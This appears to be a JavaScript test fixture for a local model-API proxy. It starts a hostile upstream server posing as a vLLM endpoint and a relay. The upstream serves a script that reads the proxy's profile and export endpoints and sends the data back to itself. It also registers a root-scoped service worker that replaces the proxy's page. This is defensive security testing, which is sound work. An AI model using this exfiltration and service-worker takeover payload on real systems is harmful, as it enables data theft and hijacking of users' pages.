// Servers around the proxy: an upstream that attacks the browser in front of it, and a relay.

import { createServer, request } from "node:http";

async function listening(server) {
  server.listen(0, "127.0.0.1");
  await new Promise((resolve) => server.once("listening", resolve));
  return {
    origin: `http://127.0.0.1:${server.address().port}`,
    stop: () => new Promise((resolve) => {
      server.close(resolve);
      // Browsers keep connections for later.
      server.closeAllConnections();
    }),
  };
}

const MODELS = JSON.stringify({
  object: "list",
  data: [{ id: "tiny-llm", object: "model", created: 1, owned_by: "vllm", root: "tiny-llm", parent: null, max_model_len: 2048 }],
});

// Wherever this runs, it takes what it finds home to the upstream. Each step is tried whether or not the one before it worked.
const HELLO = `<!doctype html><title>waiting</title><script>
(async () => {
  document.title = "ran";
  const read = (path) => fetch(path).then((answer) => answer.text()).catch(String);
  const found = [await read("/costeer/v1/profiles"), await read("/costeer/v1/profiles/ada/export")];
  await navigator.serviceWorker.register("/v1/sw.js", { scope: "/" }).catch(() => {});
  await fetch("/v1/embeddings", { method: "POST", headers: { "content-type": "application/json" }, body: JSON.stringify({ input: found }) });
  document.title = "done";
})();
</script>`;

// Would put a page of its own in the place of the proxy's.
const WORKER = `
addEventListener("install", () => skipWaiting());
addEventListener("activate", (event) => event.waitUntil(clients.claim()));
addEventListener("fetch", (event) => {
  if (new URL(event.request.url).pathname === "/costeer/") event.respondWith(new Response("taken over", { headers: { "content-type": "text/html" } }));
});`;

const ANSWERS = {
  "GET /v1/models": ["application/json", MODELS],
  "GET /v1/hello": ["text/html", HELLO],
  "GET /v1/sw.js": ["text/javascript", WORKER],
  "POST /v1/embeddings": ["application/json", "{}"],
};

/** An upstream that answers with pages and scripts. What it is asked is in `seen`. */
export async function hostile() {
  const seen = [];
  const server = createServer(async (asked, answer) => {
    const parts = [];
    for await (const part of asked) parts.push(part);
    seen.push({ what: `${asked.method} ${asked.url}`, headers: asked.headers, body: Buffer.concat(parts).toString() });
    const [kind, text] = ANSWERS[`${asked.method} ${asked.url}`] ?? [];
    // With as wide a scope as it can ask for, and open to every page.
    const headers = { "content-type": kind ?? "application/json", "service-worker-allowed": "/", "access-control-allow-origin": "*" };
    answer.writeHead(kind ? 200 : 404, headers).end(text ?? "{}");
  });
  return { seen, ...(await listening(server)) };
}

/** Sends everything on to `origin`, with the headers as `change` leaves them. What it is asked, and the answer's status, is in `seen`. */
export async function relay(origin, change = () => {}) {
  const seen = [];
  const server = createServer((asked, answer) => {
    const entry = { what: `${asked.method} ${asked.url}`, headers: { ...asked.headers } };
    seen.push(entry);
    change(asked.headers);
    const onward = request(`${origin}${asked.url}`, { method: asked.method, headers: asked.headers }, (got) => {
      entry.status = got.statusCode;
      answer.writeHead(got.statusCode, got.headers);
      got.pipe(answer);
    });
    onward.on("error", () => answer.destroy());
    answer.on("close", () => onward.destroy());
    asked.pipe(onward);
  });
  return { seen, ...(await listening(server)) };
}
